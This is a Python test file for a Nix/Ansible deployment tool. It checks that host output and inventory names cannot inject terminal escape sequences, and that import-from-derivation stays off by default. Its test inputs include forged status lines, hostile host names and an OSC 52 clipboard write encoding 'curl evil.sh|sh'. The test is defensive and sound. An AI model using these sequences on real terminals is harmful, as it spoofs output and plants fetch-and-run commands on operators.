"""The operator's terminal and import-from-derivation outside the EE
(issue 43; docs/security.md).

The terminal: the `trm` lab, h1 (NixOS) and h3 (home-manager) healthy, h2
whose health check prints terminal sequences (erase the line, cursor up, a
forged ``switched`` line for h1 and for itself, OSC 52 that writes the
operator's clipboard, a C1 CSI) and then fails. The flake adds two nodes that
are no lab host: one whose name is a newline, an erase and a green forged
summary line for h1, one whose name holds ``/``. The real deploy playbook
runs with the summary callback; the job's output must hold no byte of a
terminal sequence, the hostile names are refused with a warning, and the
summary has exactly one line per deployed host, each saying what happened.

Import-from-derivation: a flake whose inventory imports from a derivation
(tests/ifd_flake.py). `ansible-inventory --list` fails with Nix's message and
builds nothing (the derivation's output is not in the store afterwards),
whatever the controller's nix.conf allows, unless the inventory config's
nix_options turn it on.
"""

import json
import os
import subprocess

import pytest

from tests import ifd_flake
from tests.collection import BIN, ansible_env, run_playbook, unsafe_free
from tests.deploy_fleet import prepare, write_inventory
from tests.faults.fleet import ACTIVATE, out_paths

HOSTS = [{'name': 'h1', 'persona': 'nixos'}, {'name': 'h2', 'persona': 'nixos'},
         {'name': 'h3', 'persona': 'home-manager'}]
HEALTHY = ('h1', 'h3')
# what a terminal acts on: ESC, BEL (ends OSC), CR, C1 CSI, a bidi override
RAW = ('\x1b', '\x07', '\r', '\x9b', '\u202e')
# the hostile check, as sh reads it (printf's octal escapes make the bytes)
CHECK = (r"printf 'checking\n\033[2K\033[1A\033[2K\rh1             nixos         gen   1 -> 2"
         r"   switched\n'; "
         r"printf '\033]52;c;Y3VybCBldmlsLnNofHNo\007\302\233\061A\n'; "
         r"printf 'h2             nixos         gen   1 -> 2   switched\n'; exit 1")
EVIL_NAME = 'evil\n\x1b[2K\x1b[32mh1             nixos         gen   1 -> 2   switched'
SLASH_NAME = 'bad/name'


def summary_lines(stdout):
    """The lines of every NIXDEPLOY SUMMARY block, in order."""
    lines, inside = [], False
    for line in stdout.split('\n'):
        if 'NIXDEPLOY SUMMARY' in line:
            inside = True
            continue
        if inside and (not line.strip() or line.startswith(('nixdeploy', 'PLAY', 'TASK'))):
            inside = False
        elif inside and not line.startswith(' '):  # indented: a failed host's cause
            lines.append(line)
    return lines


def add_hostile_nodes(lab, flake):
    """The two nodes whose names must not reach the inventory. Their address
    is one no lab host has (the lab's subnet, .250): should they be let in,
    they would be evaluated and fail at their copy, printing their names."""
    nowhere = lab.host('h1')['address'].rsplit('.', 1)[0] + '.250'
    for name in (EVIL_NAME, SLASH_NAME):
        flake.data['hosts'][name] = {'address': nowhere, 'platform': 'nixos', 'user': 'root',
                                     'port': 22, 'tags': [], 'configuration': 'h1'}
    flake.save()


@pytest.mark.lab
# the same sequences and names: test_hostile_fleet_deploys_only_what_it_should
@pytest.mark.here_only
def test_no_target_or_flake_text_acts_on_the_terminal(make_lab, tmp_path):
    lab = make_lab('trm', HOSTS)
    base = str(tmp_path)
    flake, secret = prepare(lab, os.path.join(base, 'flake'))
    flake.set_all(version='1')
    inventory = write_inventory(os.path.join(base, 'inventory'), lab, flake, secret)
    first = run_playbook('nixdeploy.fleet.deploy', inventory, os.path.join(base, 'first'))
    assert first.rc == 0, first
    before = dict((h, lab.active(h)) for h in lab.hosts)

    add_hostile_nodes(lab, flake)
    flake.set_all(version='2')
    os.makedirs(os.path.join(inventory, 'host_vars'), exist_ok=True)
    with open(os.path.join(inventory, 'host_vars', 'h2.yml'), 'w') as handle:
        json.dump({'nix_health_checks': [{'name': 'terminal', 'retries': 0, 'command': CHECK}],
                   'nix_confirm_timeout': 15}, handle)
    run = run_playbook('nixdeploy.fleet.deploy', inventory, os.path.join(base, 'hostile'))
    assert run.rc != 0, run

    # nothing a terminal would act on, in the output or the warnings
    for stream in (run.stdout, run.stderr):
        assert not [c for c in RAW if c in stream], [
            line for line in stream.split('\n') if any(c in line for c in RAW)][:5]

    # the hostile names: refused, named escaped, never a host of the run
    for name, shown in ((EVIL_NAME, repr(EVIL_NAME)), (SLASH_NAME, SLASH_NAME)):
        assert not run.results(host=name), name
        assert 'skipped inventory node %s: refused host name' % shown in run.stderr, \
            run.stderr[-3000:]

    # one summary line per deployed host, each its own and right
    summary, new = run.summary(), out_paths(run)
    lines = summary_lines(run.stdout)
    assert sorted(line.split()[0] for line in lines) == ['h1', 'h2', 'h3'], lines
    by_host = dict((line.split()[0], line) for line in lines)
    for host in HEALTHY:
        assert not summary[host]['failed'], (host, summary[host])
        assert lab.active(host) == new[host] != before[host], host
        assert by_host[host].split()[-1] == 'switched', by_host[host]
    assert summary['h2']['failed'] and summary['h2']['rolled_back'], summary['h2']
    assert lab.active('h2') == before['h2']
    assert ' FAILED: rolled back (' in by_host['h2'], by_host['h2']
    # what the check printed is shown as text: the clipboard write is visible
    shown = '\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07\\x9b1A'
    assert shown in run.result(ACTIVATE, 'h2')['result']['health_checks']['failed']['output']
    assert shown in by_host['h2'], by_host['h2']


def inventory_list(config):
    return subprocess.run(
        [os.path.join(BIN, 'ansible-inventory'), '-i', config, '--list'],
        env=ansible_env({'ANSIBLE_INVENTORY_UNPARSED_FAILED': 'True',
                         'ANSIBLE_INVENTORY_ENABLED': 'nixdeploy.fleet.nix',
                         # the controller's own settings would allow it
                         'NIX_CONFIG': 'allow-import-from-derivation = true'}),
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, universal_newlines=True, timeout=300,
        check=False)


def write_config(folder, ref, **nix_options):
    path = os.path.join(folder, 'fleet.nix.yml')
    with open(path, 'w') as handle:
        json.dump({'plugin': 'nixdeploy.fleet.nix', 'flake': ref,
                   'nix_options': dict({'substituters': ''}, **nix_options)}, handle)
    return path


def test_the_inventory_builds_nothing_of_the_flakes_unless_nix_options_allow_it(tmp_path):
    system = subprocess.run(['nix', '--extra-experimental-features', 'nix-command', 'eval',
                             '--impure', '--raw', '--expr', 'builtins.currentSystem'],
                            stdout=subprocess.PIPE, universal_newlines=True, check=True).stdout
    name = ifd_flake.needle()
    ref = ifd_flake.write(str(tmp_path / 'flake'), name, system)

    refused = inventory_list(write_config(str(tmp_path), ref))
    assert refused.returncode != 0, refused.stdout
    assert "option 'allow-import-from-derivation' is disabled" in refused.stderr, refused.stderr
    assert not ifd_flake.built(name)

    allowed = inventory_list(write_config(str(tmp_path), ref,
                                          **{'allow-import-from-derivation': True}))
    assert allowed.returncode == 0, allowed.stderr
    hosts = unsafe_free(json.loads(allowed.stdout))['_meta']['hostvars']
    assert hosts['ifdhost']['ansible_host'] == '192.0.2.7', hosts
    assert ifd_flake.built(name)
